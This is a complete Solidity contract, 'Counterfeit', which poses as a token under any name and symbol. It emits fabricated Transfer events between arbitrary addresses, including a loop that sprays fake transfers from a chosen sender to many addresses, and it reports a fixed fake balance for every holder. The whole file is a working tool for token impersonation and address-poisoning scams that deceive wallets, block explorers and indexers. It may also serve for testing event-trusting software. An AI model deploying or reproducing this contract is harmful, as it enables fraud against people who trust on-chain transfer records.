// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

/// A token that lies: it writes transfers that never were, between whomever it likes, under any name.
contract Counterfeit {
    event Transfer(address indexed from, address indexed to, uint256 value);

    string public name;
    string public symbol;
    uint256 public decimals;

    constructor(string memory name_, string memory symbol_, uint256 decimals_) {
        name = name_;
        symbol = symbol_;
        decimals = decimals_;
    }

    function pretend(address from, address to, uint256 value) external {
        emit Transfer(from, to, value);
    }

    /// As many lines as are asked for, to addresses that count up from the first.
    function spray(address from, uint160 first, uint256 count, uint256 value) external {
        for (uint160 at = 0; at < count; at++) {
            emit Transfer(from, address(first + at), value);
        }
    }

    function balanceOf(address) external pure returns (uint256) {
        return 1_000_000 * 10 ** 18;
    }
}
